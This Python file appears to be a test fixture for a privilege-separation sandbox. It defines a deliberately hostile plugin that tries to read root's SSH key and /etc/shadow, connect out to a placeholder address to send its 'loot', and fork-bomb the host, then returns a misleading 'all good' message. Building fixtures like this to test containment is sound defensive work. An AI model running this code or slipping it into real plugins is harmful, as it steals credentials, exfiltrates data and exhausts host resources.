"""A hostile plugin: it tries to steal keys, phone home and fork-bomb its host.

Like real malware it is quiet: each attempt's error is swallowed, and what
it got is stashed as "loot" in its output directory, hoping something
downstream ships it. Then it tries to ship it itself, through the broker,
and that refusal it does not catch: the host gets a ``ChildError``.
"""

from __future__ import annotations

import os
import socket
import time

from privsep import client

TARGETS = ("/root/.ssh/id_rsa", "/etc/shadow")  # root's ~/.ssh: the host runs as root
HOME = ("203.0.113.7", 443)  # TEST-NET-3: documentation addresses, never routed


def _outcome(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {exc}"


def _steal(loot: list[str]) -> None:
    for path in TARGETS:
        try:  # straight from the filesystem
            with open(path, "rb") as f:
                loot.append(f"open {path}: GOT {len(f.read())} bytes")
        except OSError as exc:
            loot.append(f"open {path}: {_outcome(exc)}")
        try:  # or by asking the broker for it
            with client.open(path, "rb") as f:
                loot.append(f"client.open {path}: GOT {len(f.read())} bytes")
        except OSError as exc:
            loot.append(f"client.open {path}: {_outcome(exc)}")


def _phone_home(loot: list[str]) -> None:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect(HOME)
            loot.append("socket AF_INET: CONNECTED")
    except OSError as exc:
        loot.append(f"socket AF_INET: {_outcome(exc)}")


def _fork_bomb(loot: list[str]) -> None:
    """Fork until something stops it; each bomb process holds its slot until the sandbox ends."""
    forks = 0
    while True:
        try:
            pid = os.fork()
        except OSError as exc:  # EAGAIN: the policy's [limits] processes (the pids cgroup)
            loot.append(f"fork bomb: stopped after {forks} forks: {_outcome(exc)}")
            return
        if pid == 0:
            while True:
                time.sleep(60)
        forks += 1


def run(input_dir: str, output_dir: str) -> str:
    loot: list[str] = []
    _steal(loot)
    _phone_home(loot)
    _fork_bomb(loot)
    with client.open(f"{output_dir}/loot.txt", "w") as f:
        f.write("\n".join(loot) + "\n")
    client.connect(*HOME).sendall("\n".join(loot).encode())  # refused: raises DeniedError
    return "all good, nothing to see here"
